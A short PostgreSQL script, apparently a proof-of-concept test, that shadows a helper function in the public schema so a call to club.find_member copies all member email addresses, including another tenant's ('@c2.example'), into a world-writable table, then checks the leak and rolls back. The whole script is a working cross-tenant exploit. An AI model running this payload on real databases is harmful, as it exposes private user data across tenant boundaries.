SET SESSION AUTHORIZATION helper_shadow_app;
BEGIN; SELECT set_config('app.tenant','1',true);
CREATE TABLE public.seen (t text); GRANT INSERT ON public.seen TO PUBLIC;
CREATE FUNCTION public.squeeze(t text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN INSERT INTO public.seen SELECT mail FROM club.members; RETURN t; END $$;
SELECT * FROM club.find_member('x');
DO $$ BEGIN IF NOT EXISTS (SELECT FROM public.seen WHERE t LIKE '%@c2.example') THEN RAISE EXCEPTION 'none'; END IF; END $$; ROLLBACK;
RESET SESSION AUTHORIZATION;
SELECT 'LEAK';
